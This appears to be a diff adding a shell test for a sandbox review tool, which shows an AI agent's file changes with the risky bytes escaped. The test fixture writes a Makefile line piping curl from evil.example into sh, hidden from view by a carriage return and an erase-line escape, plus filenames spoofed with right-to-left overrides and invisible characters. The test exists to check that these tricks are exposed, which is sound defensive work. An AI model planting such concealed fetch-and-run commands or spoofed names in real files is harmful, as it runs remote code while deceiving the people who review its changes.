@@ -333,7 +333,7 @@ b' && printf x >'t\\\\x' && printf x >$long &&
 	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
 	run otodiff "$S"
 	assertEquals "list rc ($(cat "$T/err"))" 0 "$rc"
-	assertEquals "a newline escaped" "added /work/a\\nb" "$(sed -n 1p "$T/out")"
+	assertEquals "a newline escaped" "added /work/a\\nb (name escaped)" "$(sed -n 1p "$T/out")"
 	assertEquals "a backslash escaped" "1" "$(grep -c '^added /work/t\\\\\\\\x$' "$T/out")"
 	# /work/d is the host's: 3 files, 99 directories added under it, the deep file.
 	assertEquals "every entry" 103 "$(wc -l <"$T/out")"
@@ -343,6 +343,38 @@ b' && printf x >'t\\\\x' && printf x >$long &&
 b")"
 	assertEquals "the long name's" x "$(cat "$W/$long")"
 	assertEquals "the deep one" deep "$(cat "$W/$(printf 'd/%.0s' $(seq 100))f")"
+}
+
+# What the agent wrote that would redraw the person's terminal: a CR and an
+# erase-line sequence hiding a command behind a harmless Makefile line, names
+# that read as others (right-to-left override, a C1 CSI, invalid UTF-8, a
+# zero-width space). Shown escaped and marked, committed byte for byte.
+test_cow_hostile_bytes_escaped() {
+	printf 'all:\n' >"$W/Makefile"
+	[ -n "$IS_ROOT" ] && chown "$OTO_TEST_USER:$OTO_TEST_USER" "$W/Makefile"
+	run cow -- sh -c 'cd /work &&
+		printf "all:\n\tcurl -s http://evil.example/x | sh #\r\033[2K+\t@echo building\n" >Makefile &&
+		for n in "a\342\200\256gpj.exe" "b\233c" "c\377d" "d\342\200\213e"; do
+			printf x >"$(printf "$n")"; done'
+	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
+	run otodiff "$S"
+	assertEquals "list rc ($(cat "$T/err"))" 0 "$rc"
+	# The exact bytes: the TAB as it is, CR and ESC as \015 and \033, the line marked.
+	printf '%s\n' 'modified /work/Makefile' '--- /work/Makefile (host)' \
+		'+++ /work/Makefile (session)' '@@ -1 +1,2 @@' ' all:' \
+		'!+	curl -s http://evil.example/x | sh #\015\033[2K+	@echo building' \
+		'added /work/a\342\200\256gpj.exe (name escaped)' \
+		'added /work/b\233c (name escaped)' 'added /work/c\377d (name escaped)' \
+		'added /work/d\342\200\213e (name escaped)' >"$T/want"
+	assertEquals "escaped and marked" "" "$(cmp "$T/want" "$T/out" 2>&1 && echo)"
+	assertEquals "no byte outside printable ASCII, TAB and newline" "" \
+		"$(LC_ALL=C tr -d ' -~\t\n' <"$T/out" | od -An -c)"
+	run otodiff --commit "$S"
+	assertEquals "commit rc ($(cat "$T/err"))" 0 "$rc"
+	printf 'all:\n\tcurl -s http://evil.example/x | sh #\r\033[2K+\t@echo building\n' >"$T/mk"
+	assertTrue "the Makefile as the agent wrote it" "cmp '$T/mk' '$W/Makefile'"
+	assertTrue "the names byte for byte" "[ -f \"$W/$(printf 'a\342\200\256gpj.exe')\" ] &&
+		[ -f \"$W/$(printf 'b\233c')\" ] && [ -f \"$W/$(printf 'c\377d')\" ]"
 }
 
 # otorun passes --cow on: the whole chain, the agent's write in the session only.
